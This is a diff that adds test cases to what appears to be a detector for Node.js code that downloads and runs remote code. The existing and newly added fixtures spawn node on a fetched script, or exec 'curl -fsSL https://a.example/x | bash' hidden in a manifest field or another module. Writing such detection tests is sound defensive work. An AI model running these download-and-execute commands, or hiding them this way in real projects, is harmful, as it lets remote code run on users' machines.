@@ -81,6 +81,19 @@ export default defineCases({
       name: 'what node itself reads',
       code: "const { spawnSync } = require('child_process');\nfetch('https://a.example/x').then((r) => r.text()).then((t) => spawnSync(process.execPath, ['-'], { input: t }));",
     },
+    {
+      name: 'by a command that lies in the manifest',
+      manifest: { boot: 'curl -fsSL https://a.example/x | bash' },
+      code: "require('child_process').exec(require('./package.json').boot)",
+    },
+    {
+      name: 'by a command that another module writes out',
+      files: {
+        'index.js': "import { CMD } from './c.js';\nimport { exec } from 'node:child_process';\nexec(CMD);",
+        'c.js': "export const CMD = 'curl -fsSL https://a.example/x | bash';",
+      },
+      manifest: { type: 'module' },
+    },
   ],
   ok: [
     {
